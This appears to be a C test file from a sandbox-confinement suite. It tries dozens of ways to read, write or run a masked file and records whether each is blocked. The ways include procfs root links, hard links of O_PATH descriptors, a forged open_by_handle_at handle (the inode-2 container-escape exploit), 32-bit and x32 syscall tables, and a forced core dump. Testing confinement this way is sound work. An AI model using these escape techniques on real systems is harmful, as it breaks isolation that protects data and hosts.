/* Reading what must not be read: every road to a file that is masked, by name or by object. */
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/openat2.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attempt.h"

#define PATH_LIMIT 4096

static int read_file(char **arguments) {
  return read_path(arguments[0]);
}

/* ---- other names ---- */

static int read_through_symlink(char **arguments) {
  if (symlink(arguments[0], arguments[1]) < 0)
    return errno;
  return read_path(arguments[1]);
}

static int read_through_link(char **arguments) {
  if (link(arguments[0], arguments[1]) < 0)
    return errno;
  return read_path(arguments[1]);
}

static int read_through_fd_link(char **arguments) {
  char name[64];
  int fd = open(arguments[0], O_PATH | O_CLOEXEC);

  if (fd < 0)
    return errno;
  snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
  if (linkat(AT_FDCWD, name, AT_FDCWD, arguments[1], AT_SYMLINK_FOLLOW) < 0)
    return errno;
  return read_path(arguments[1]);
}

/* An O_PATH descriptor needs no read permission; reopening it does. */
static int read_through_o_path(char **arguments) {
  char name[64];
  int fd = open(arguments[0], O_PATH | O_CLOEXEC);

  if (fd < 0)
    return errno;
  snprintf(name, sizeof(name), "/dev/fd/%d", fd);
  return read_path(name);
}

static int read_below(char **arguments) {
  static const char *const prefixes[] = {"/proc/self/root", "/proc/thread-self/root",
                                         "/proc/1/root", "/proc/self/cwd/../../../../../../../.."};
  char path[PATH_LIMIT];
  int result = ENOENT;

  for (size_t i = 0; i < sizeof(prefixes) / sizeof(prefixes[0]); i++) {
    snprintf(path, sizeof(path), "%s%s", prefixes[i], arguments[0]);
    result = read_path(path);
    if (result == OPENED)
      return OPENED;
  }
  snprintf(path, sizeof(path), "/proc/%d/root%s", getppid(), arguments[0]);
  return read_path(path) == OPENED ? OPENED : result;
}

static int read_from_directory(char **arguments) {
  int directory = open(arguments[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC), result;

  if (directory < 0)
    return errno;
  result = read_some(openat(directory, arguments[1], O_RDONLY | O_CLOEXEC));
  if (result == OPENED)
    return OPENED;
  if (fchdir(directory) < 0)
    return errno;
  return read_path(arguments[1]);
}

/* As long as a path can be, without naming anything else. */
static int read_long_path(char **arguments) {
  char path[PATH_LIMIT];
  size_t length = strlen(arguments[0]), used = 0;

  while (used + 2 + length < sizeof(path)) {
    memcpy(path + used, "/.", 2);
    used += 2;
  }
  memcpy(path + used, arguments[0], length + 1);
  return read_path(path);
}

/* From further below than a path can say: only relative steps lead back. */
static int read_from_depth(char **arguments) {
  char component[201], up[PATH_LIMIT] = "";

  memset(component, 'd', sizeof(component) - 1);
  component[sizeof(component) - 1] = '\0';
  if (chdir(arguments[0]) < 0)
    return errno;
  for (int i = 0; i < 30; i++) {
    if (mkdir(component, 0700) < 0 && errno != EEXIST)
      return errno;
    if (chdir(component) < 0)
      return errno;
  }
  for (int i = 0; i < 60; i++)
    strcat(up, "../");
  strcat(up, arguments[1] + 1);
  return read_path(up);
}

static int casefold_alias(char **arguments) {
  char path[PATH_LIMIT];
  int directory, flags = 0, file;

  snprintf(path, sizeof(path), "%s/folded", arguments[0]);
  if (mkdir(path, 0700) < 0)
    unsupported("no folder to fold the case of");
  directory = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0 || ioctl(directory, FS_IOC_GETFLAGS, &flags) < 0)
    unsupported("file system without flags");
  flags |= FS_CASEFOLD_FL;
  if (ioctl(directory, FS_IOC_SETFLAGS, &flags) < 0)
    unsupported("file system without case folding");
  file = openat(directory, "probe", O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  if (file < 0)
    return errno;
  close(file);
  return answer(openat(directory, "PROBE", O_RDONLY | O_CLOEXEC));
}

/* ---- what a mask may still tell ---- */

static int list_folder(char **arguments) {
  DIR *folder = opendir(arguments[0]);
  struct dirent *entry;

  if (!folder)
    return errno;
  while ((entry = readdir(folder)))
    if (strcmp(entry->d_name, ".") != 0 && strcmp(entry->d_name, "..") != 0) {
      detail("%s", entry->d_name);
      closedir(folder);
      return OPENED;
    }
  closedir(folder);
  return DENIED_EMPTY;
}

static int learn_size(char **arguments) {
  struct statx status;

  if (statx(AT_FDCWD, arguments[0], 0, STATX_SIZE, &status) < 0)
    return errno;
  return status.stx_size == (unsigned long long)number(arguments[1]) ? OPENED : DENIED_EMPTY;
}

static int learn_attribute(char **arguments) {
  char value[256];
  ssize_t length = getxattr(arguments[0], arguments[1], value, sizeof(value) - 1);

  if (length < 0)
    return errno;
  value[length] = '\0';
  detail("%s", value);
  return length == 0 ? DENIED_EMPTY : OPENED;
}

static int learn_link_target(char **arguments) {
  char value[PATH_LIMIT];
  ssize_t length = readlink(arguments[0], value, sizeof(value) - 1);

  if (length < 0)
    return errno;
  value[length] = '\0';
  detail("%s", value);
  return OPENED;
}

static int watch_file(char **arguments) {
  int fd = inotify_init1(IN_CLOEXEC);

  if (fd < 0)
    return errno;
  return answer(inotify_add_watch(fd, arguments[0], IN_ACCESS | IN_MODIFY));
}

/* ---- other system calls ---- */

static int read_by_open(char **arguments) {
#ifdef SYS_open
  return read_some((int)syscall(SYS_open, arguments[0], O_RDONLY));
#else
  (void)arguments;
  unsupported("no open system call here");
#endif
}

static int read_by_openat2(char **arguments) {
  struct open_how how = {.flags = O_RDONLY};
  long fd = syscall(SYS_openat2, AT_FDCWD, arguments[0], &how, sizeof(how));

  if (fd < 0 && errno == ENOSYS)
    return ENOSYS;
  return read_some((int)fd);
}

static int overwrite_by_creat(char **arguments) {
  return answer(creat(arguments[0], 0600));
}

static int overwrite_by_truncate(char **arguments) {
  return answer(truncate(arguments[0], 0));
}

static int run_by_execveat(char **arguments) {
  char *const argv[] = {arguments[0], NULL}, *const environment[] = {NULL};
  int fd = open(arguments[0], O_PATH | O_CLOEXEC), output[2], status = 0;
  char byte;
  pid_t child;

  if (fd < 0)
    return errno;
  if (pipe2(output, O_CLOEXEC) < 0)
    return errno;
  child = fork();
  if (child == 0) {
    dup2(open("/dev/null", O_WRONLY), 1);
    fcntl(fd, F_SETFD, 0);
    syscall(SYS_execveat, fd, "", argv, environment, AT_EMPTY_PATH);
    byte = (char)errno;
    _exit(write(output[1], &byte, 1) == 1 ? 1 : 2);
  }
  close(output[1]);
  waitpid(child, &status, 0);
  return read(output[0], &byte, 1) == 1 ? byte : OPENED;
}

static int use_as_library(char **arguments) {
#ifdef SYS_uselib
  long result = syscall(SYS_uselib, arguments[0]);

  /* ENOEXEC: it was opened and read, and is no library. */
  return result < 0 && errno != ENOEXEC ? errno : OPENED;
#else
  (void)arguments;
  unsupported("no uselib system call here");
#endif
}

static int map_file(char **arguments) {
  int fd = open(arguments[0], O_RDONLY | O_CLOEXEC);
  const char *text;

  if (fd < 0)
    return errno;
  text = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  if (text == MAP_FAILED)
    return errno;
  detail("%.60s", text);
  return OPENED;
}

static int copy_by_kernel(char **arguments) {
  int source = open(arguments[0], O_RDONLY | O_CLOEXEC), target;

  if (source < 0)
    return errno;
  target = open(arguments[1], O_RDWR | O_CREAT | O_CLOEXEC, 0600);
  if (target < 0)
    return errno;
  if (sendfile(target, source, NULL, 4096) < 0)
    return errno;
  lseek(target, 0, SEEK_SET);
  return read_some(target);
}

/* ---- file handles ---- */

struct handle {
  struct file_handle header;
  unsigned char bytes[MAX_HANDLE_SZ];
};

static int make_handle(const char *path, struct handle *handle) {
  int mount_id;

  handle->header.handle_bytes = MAX_HANDLE_SZ;
  return answer(name_to_handle_at(AT_FDCWD, path, &handle->header, &mount_id, 0));
}

static int handle_of(char **arguments) {
  struct handle handle;

  return make_handle(arguments[0], &handle);
}

/* The classic: inode 2 is the root of the host's file system, whatever is mounted over it. */
static int open_by_handle(char **arguments) {
  struct handle handle;
  int mount, result = make_handle(arguments[1], &handle);

  if (result != OPENED) {
    /* Not allowed to ask for one: make one up, as the exploit did. */
    static const unsigned char root_inode[8] = {2};
    handle.header.handle_bytes = 8;
    handle.header.handle_type = 1;
    memcpy(handle.header.f_handle, root_inode, sizeof(root_inode));
  }
  mount = open(arguments[0], O_RDONLY | O_CLOEXEC);
  if (mount < 0)
    return errno;
  return answer(open_by_handle_at(mount, &handle.header, O_RDONLY | O_CLOEXEC));
}

static int open_by_handle_in_userns(char **arguments) {
  if (unshare(CLONE_NEWUSER) < 0)
    return errno;
  return open_by_handle(arguments);
}

static int open_by_handle_in_child(char **arguments) {
  return in_child(open_by_handle_in_userns, arguments);
}

/* Handles of pidfds and namespaces open without privilege on recent kernels. */
static int process_handle(char **arguments) {
  struct handle handle = {.header = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount_id, fd = (int)syscall(SYS_pidfd_open, number(arguments[0]), 0);

  if (fd < 0)
    return errno;
  if (name_to_handle_at(fd, "", &handle.header, &mount_id, AT_EMPTY_PATH) < 0) {
    if (errno == EOPNOTSUPP)
      unsupported("kernel without handles of processes");
    return errno;
  }
  return answer(open_by_handle_at(fd, &handle.header, O_CLOEXEC));
}

/* ---- other system call tables ---- */

#ifdef __x86_64__
static int read_by_int80(char **arguments) {
  char *low =
      mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  long result;

  if (low == MAP_FAILED)
    return errno;
  snprintf(low, 4096, "%s", arguments[0]);
  /* open is 5 in the 32-bit table. */
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(5L), "b"(low), "c"(0L), "d"(0L) : "memory");
  if (result < 0)
    return (int)-result;
  return read_some((int)result);
}

/* Any call of the 32-bit table, with three plain numbers. */
static int call_by_int80(char **arguments) {
  long result;

  __asm__ volatile("int $0x80"
                   : "=a"(result)
                   : "a"(number(arguments[0])), "b"(number(arguments[1])),
                     "c"(number(arguments[2])), "d"(number(arguments[3]))
                   : "memory");
  errno = result < 0 ? (int)-result : 0;
  return reached(result < 0 ? -1 : 0);
}

static int read_by_x32(char **arguments) {
  return read_some((int)syscall(0x40000000 | SYS_openat, AT_FDCWD, arguments[0], O_RDONLY));
}
#else
static int read_by_int80(char **arguments) {
  (void)arguments;
  unsupported("not an x86-64 machine");
}

static int call_by_int80(char **arguments) {
  (void)arguments;
  unsupported("not an x86-64 machine");
}

static int read_by_x32(char **arguments) {
  (void)arguments;
  unsupported("not an x86-64 machine");
}
#endif

static int call_by_int80_in_child(char **arguments) {
  return in_child(call_by_int80, arguments);
}

/* ".." of the root is the root, unless something is still mounted on top of it. */
static int above_root(char **arguments) {
  struct statx root, above;

  (void)arguments;
  if (statx(AT_FDCWD, "/", 0, STATX_MNT_ID | STATX_INO, &root) < 0 ||
      statx(AT_FDCWD, "/..", 0, STATX_MNT_ID | STATX_INO, &above) < 0)
    return errno;
  detail("mount %llu above mount %llu", (unsigned long long)above.stx_mnt_id,
         (unsigned long long)root.stx_mnt_id);
  return root.stx_mnt_id == above.stx_mnt_id && root.stx_ino == above.stx_ino ? ENOENT : OPENED;
}

/* ---- descriptors ---- */

static int reopen_for_writing(char **arguments) {
  char name[64];
  int fd = open(arguments[0], O_RDONLY | O_CLOEXEC);

  if (fd < 0)
    return errno;
  snprintf(name, sizeof(name), "%s/%d", arguments[1], fd);
  return answer(open(name, O_WRONLY | O_TRUNC | O_CLOEXEC));
}

static int inherited_descriptor(char **arguments) {
  char name[64], target[256];

  (void)arguments;
  for (int fd = 3; fd < 4096; fd++) {
    ssize_t length;
    if (fcntl(fd, F_GETFD) < 0)
      continue;
    snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
    length = readlink(name, target, sizeof(target) - 1);
    target[length < 0 ? 0 : length] = '\0';
    detail("%d %s", fd, target);
    return OPENED;
  }
  return EBADF;
}

/* ---- traces ---- */

static int dump_core(char **arguments) {
  struct stat status;
  int result;
  pid_t child;

  if (chdir(arguments[0]) < 0)
    return errno;
  child = fork();
  if (child < 0)
    return errno;
  if (child == 0) {
    /* The soft limit is ours to raise; only the hard one protects. */
    static const char *const shell[] = {"/bin/sh", "-c", "ulimit -c $(ulimit -H -c); kill -SEGV $$",
                                        NULL};
    execv(shell[0], (char *const *)shell);
    _exit(127);
  }
  if (waitpid(child, &result, 0) < 0)
    return errno;
  if (!WIFSIGNALED(result))
    return EINVAL;
  if (WCOREDUMP(result))
    return OPENED;
  return stat("core", &status) == 0 ? OPENED : ENOENT;
}

const struct attempt secret_attempts[] = {
    {"read", 1, "PATH: read it", read_file},
    {"list", 1, "FOLDER: list it", list_folder},
    {"E14", 2, "PATH NAME: read through a symbolic link made inside", read_through_symlink},
    {"E15", 2, "PATH NAME: read through a hard link made inside", read_through_link},
    {"E15.fd", 2, "PATH NAME: hard link of an O_PATH descriptor", read_through_fd_link},
    {"E15.opath", 1, "PATH: reopen an O_PATH descriptor", read_through_o_path},
    {"E16", 1, "PATH: read below root and cwd links of procfs", read_below},
    {"E17", 2, "PATH FDS: reopen a read-only descriptor for writing", reopen_for_writing},
    {"E18", 2, "FOLDER RELATIVE: openat and fchdir", read_from_directory},
    {"E18.long", 1, "PATH: read by a path of 4095 bytes", read_long_path},
    {"E18.depth", 2, "FOLDER PATH: read from below PATH_MAX", read_from_depth},
    {"E19", 1, "FOLDER: another spelling in a case-folding folder", casefold_alias},
    {"E23.size", 2, "PATH SIZE: statx tells the size", learn_size},
    {"E23.xattr", 2, "PATH NAME: getxattr", learn_attribute},
    {"E23.readlink", 1, "PATH: readlink", learn_link_target},
    {"E23.inotify", 1, "PATH: watch it", watch_file},
    {"E24", 2, "MOUNT PATH: open_by_handle_at", open_by_handle},
    {"E24.name", 1, "PATH: name_to_handle_at", handle_of},
    {"E24.pidfs", 1, "PID: handle of a process", process_handle},
    {"E25", 2, "MOUNT PATH: open_by_handle_at in a user namespace", open_by_handle_in_child},
    {"E27", 1, "PATH: open by int 0x80", read_by_int80},
    {"E27.call", 4, "NUMBER A B C: any call by int 0x80", call_by_int80_in_child},
    {"E18.above", 0, "something else is behind /..", above_root},
    {"E28", 1, "PATH: openat by the x32 table", read_by_x32},
    {"E29.open", 1, "PATH: open", read_by_open},
    {"E29.openat2", 1, "PATH: openat2", read_by_openat2},
    {"E29.creat", 1, "PATH: creat", overwrite_by_creat},
    {"E29.truncate", 1, "PATH: truncate", overwrite_by_truncate},
    {"E29.execveat", 1, "PATH: execveat with AT_EMPTY_PATH", run_by_execveat},
    {"E29.uselib", 1, "PATH: uselib", use_as_library},
    {"E29.mmap", 1, "PATH: mmap", map_file},
    {"E29.sendfile", 2, "PATH COPY: sendfile", copy_by_kernel},
    {"E36", 1, "FOLDER: leave a core dump", dump_core},
    {"E63", 0, "an inherited descriptor above 2", inherited_descriptor},
    {NULL, 0, NULL, NULL},
};
